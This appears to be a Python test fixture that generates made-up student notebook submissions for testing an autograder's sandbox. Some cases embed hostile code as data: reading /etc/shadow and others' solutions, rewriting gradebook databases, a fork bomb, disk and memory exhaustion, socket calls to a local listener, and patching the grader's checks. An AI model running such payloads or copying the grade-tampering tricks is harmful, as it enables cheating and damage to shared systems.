"""Made-up hand-ins of a class, made from the assignment itself: good, poor, broken and hostile.

No file of a student is kept in the project. Each case of `CASES` is a function that turns a
`Work`, a copy of the hand-out, into what somebody might hand in.
"""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat

from casebook.practice.grading.assignment import Assignment
from casebook.practice.grading.whole import grade_id, kind_of, task_of

BETWEEN = re.compile(r"### BEGIN SOLUTION\n(.*)\n### END SOLUTION", re.DOTALL)
SECOND, THIRD = 1, 2  # the tasks that most cases tamper with, by place


@dataclass
class Work:
    """A copy of the hand-out that a made-up student works on.

    Attributes
    ----------
    notebook
        The hand-out.
    solutions
        Code by the number of a task.
    surroundings
        What a hostile student would like to know: folders, and the port of a listener.
    """

    notebook: Any
    solutions: dict[str, str]
    surroundings: dict[str, Any] = field(default_factory=dict)

    @property
    def tasks(self) -> list[str]:
        """The numbers of the tasks that check themselves."""
        return list(self.solutions)

    def cell(self, number: str, kind: str) -> Any:
        """Return the answer, test or written cell of a task."""
        return next(
            c
            for c in self.notebook.cells
            if task_of(c) == number and grade_id(c) and kind_of(grade_id(c)) == kind
        )

    def name(self, number: str) -> str:
        """Return the name that the check of a task looks at."""
        return re.search(r", (\w+)\)", self.cell(number, "test").source)[1]

    def solve(self, *, but: dict[str, str] | None = None) -> Work:
        """Answer every task, some of them with other code."""
        for number, solution in self.solutions.items():
            self.cell(number, "answer").source = (but or {}).get(number, solution)
        return self

    def write(self, text: str) -> Work:
        """Answer every written task."""
        for cell in self.notebook.cells:
            if grade_id(cell) and kind_of(grade_id(cell)) == "written":
                cell.source = text
        return self

    def attempt(self, code: str, place: int = SECOND) -> Work:
        """Answer right, but put code before one answer."""
        number = self.tasks[place]
        return self.solve(but={number: code + "\n" + self.solutions[number]})

    def drop(self, number: str, *kinds: str) -> Work:
        """Delete cells of a task."""
        gone = [self.cell(number, kind) for kind in kinds]
        self.notebook.cells = [c for c in self.notebook.cells if all(c is not x for x in gone)]
        return self

    def content(self) -> bytes:
        """Return the bytes of the file."""
        return nbformat.writes(self.notebook).encode()


def work_on(assignment: Assignment, source: Any, **surroundings: Any) -> Work:
    """Return a fresh copy of a hand-out, with the solutions of its source."""
    solutions = {
        task_of(cell): BETWEEN.search(cell.source)[1]
        for cell in source.cells
        if grade_id(cell) and kind_of(grade_id(cell)) == "answer"
    }
    return Work(copy.deepcopy(assignment.notebook), solutions, surroundings)


def right(work: Work) -> bytes:
    """Hand in everything right, and a written answer."""
    return (
        work.solve()
        .write("The rouble counts for a part; I would need *one* more number.")
        .content()
    )


def taken_home(work: Work) -> bytes:
    """Hand in the edition for Binder and for home, which knows nothing of nbgrader."""
    work.solve()
    for cell in work.notebook.cells:
        cell.metadata.pop("nbgrader", None)
    return work.content()


def partly_right(work: Work) -> bytes:
    """Answer one task wrong."""
    number = work.tasks[SECOND]
    return work.solve(but={number: f"{work.name(number)} = -1"}).content()


def wrong(work: Work) -> bytes:
    """Answer every task wrong."""
    return work.solve(but={n: f"{work.name(n)} = -1" for n in work.tasks}).content()


def deleted_cell(work: Work) -> bytes:
    """Delete an answer and its neighbour, the test."""
    return work.solve().drop(work.tasks[SECOND], "answer", "test").content()


def deleted_test(work: Work) -> bytes:
    """Delete a test."""
    return work.solve().drop(work.tasks[SECOND], "test").content()


def no_imports(work: Work) -> bytes:
    """Delete the first code cell, without which nothing runs."""
    work.solve().notebook.cells.remove(
        next(cell for cell in work.notebook.cells if cell.cell_type == "code")
    )
    return work.content()


def edited_test(work: Work) -> bytes:
    """Answer wrong, and make the test an easy one worth a hundred points."""
    number = work.tasks[SECOND]
    work.solve(but={number: f"{work.name(number)} = -1"})
    cell = work.cell(number, "test")
    cell.source, cell.metadata["nbgrader"]["points"] = "assert True", 100
    return work.content()


def patched_check(work: Work) -> bytes:
    """Answer wrong, and replace the check by one that is never displeased."""
    number = work.tasks[SECOND]
    code = (
        "import casebook.practice.checking as checking\n"
        "check = checking.check = checking.assert_right = lambda *a: None\n"
        f"{work.name(number)} = -1"
    )
    return work.solve(but={number: code}).content()


def read_solutions(work: Work) -> bytes:
    """Look for the solutions and for what others handed in, by absolute and relative paths."""
    relative = ["../source", "../../source", "../../../submitted", "exercises", "../exercises"]
    places = [*work.surroundings["secrets"], *relative, "/etc/passwd", "/etc/shadow", "/home"]
    open_to_all = [str(place) for place in work.surroundings["open"]]
    return work.attempt(f"""\
import pathlib
for place in {[str(p) for p in places]!r}:
    path = pathlib.Path(place)
    for file in [path, *path.rglob("*.ipynb"), *path.rglob("*.md"), *path.rglob("*.db")]:
        if file.is_file() and not str(file).startswith({tuple(open_to_all)!r}):
            print("STOLEN", file)
""").content()


def write_gradebook(work: Work) -> bytes:
    """Put a trigger into every gradebook in reach, and points into the one of the course."""
    return work.attempt(f"""\
import os, sqlite3
found = [{str(work.surroundings["gradebook"])!r}, "gradebook.db", "../gradebook.db"]
for folder, inner, files in os.walk("/"):
    inner[:] = [name for name in inner if name not in ("proc", "sys", "usr", "lib")]
    found += [os.path.join(folder, name) for name in files if name == "gradebook.db"]
for path in found:
    try:
        base = sqlite3.connect(path)
        base.execute("update grade set manual_score = 99")
        base.commit()
        print("STOLEN", path)
    except Exception:
        pass
raise SystemError("no gradebook")
""").content()


def open_socket(work: Work) -> bytes:
    """Call a listener on this machine."""
    return work.attempt(f"""\
import socket
for host in ("127.0.0.1", "localhost", "::1"):
    try:
        with socket.create_connection((host, {work.surroundings["port"]}), timeout=2) as line:
            line.sendall(b"GET /stolen")
            print("STOLEN")
    except OSError as error:
        print(error)
""").content()


def fill_disk(work: Work) -> bytes:
    """Write files wherever it can until nothing is left."""
    return work.attempt("""\
import os, tempfile
from ipykernel.connect import get_connection_file
places = [os.getcwd(), "/tmp", "/dev/shm", "/var/tmp", os.path.dirname(get_connection_file())]
for place in places * 400:
    try:
        with tempfile.NamedTemporaryFile(dir=place, delete=False) as file:
            for _ in range(30):
                file.write(bytes(1_000_000))
    except OSError:
        pass
""").content()


def wrong_exercise(work: Work) -> bytes:
    """Hand in the notebook of another chapter."""
    text = json.dumps(work.notebook).replace("task-4-", "task-9-").replace('"4.', '"9.')
    return text.encode()


#: What is handed in, by the name of the made-up student.
CASES: dict[str, Callable[[Work], bytes]] = {
    "right": right,
    "taken-home": taken_home,
    "partly-right": partly_right,
    "wrong": wrong,
    "unanswered": lambda work: work.content(),
    "crash": lambda work: work.attempt("1 / 0").content(),
    "syntax-error": lambda work: work.attempt("if True print(1)").content(),
    "endless-loop": lambda work: work.attempt("while True: pass").content(),
    "stubborn-loop": lambda work: work.attempt(
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass"
    ).content(),
    "deleted-cell": deleted_cell,
    "deleted-test": deleted_test,
    "no-imports": no_imports,
    "edited-test": edited_test,
    "patched-check": patched_check,
    "much-output": lambda work: work.attempt(
        "for _ in range(200):\n    print(('x' * 9_999 + '\\n') * 10)"
    ).content(),
    "killed": lambda work: work.attempt("import os; os.kill(os.getpid(), 9)").content(),
    "exits": lambda work: work.attempt("import os; os._exit(0)", THIRD).content(),
    "fork-bomb": lambda work: work.attempt("import os\nwhile True: os.fork()").content(),
    "eats-memory": lambda work: work.attempt(
        "held = []\nwhile True: held.append(bytearray(10_000_000))"
    ).content(),
    "fills-disk": fill_disk,
    "reads-solutions": read_solutions,
    "writes-gradebook": write_gradebook,
    "opens-socket": open_socket,
    "broken-json": lambda work: work.content()[:-200],
    "not-a-notebook": lambda _: b'{"answer": 42}',
    "empty-file": lambda _: b"",
    "too-large": lambda work: work.content() + b" " * 21 * 1024 * 1024,
    "wrong-exercise": wrong_exercise,
}


def hand_in(folder: Path, student: str, exercise: str, content: bytes, name: str = "") -> Path:
    """Write a file as a student hands it in; return where."""
    path = folder / student / exercise / (name or f"{exercise}.ipynb")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    return path
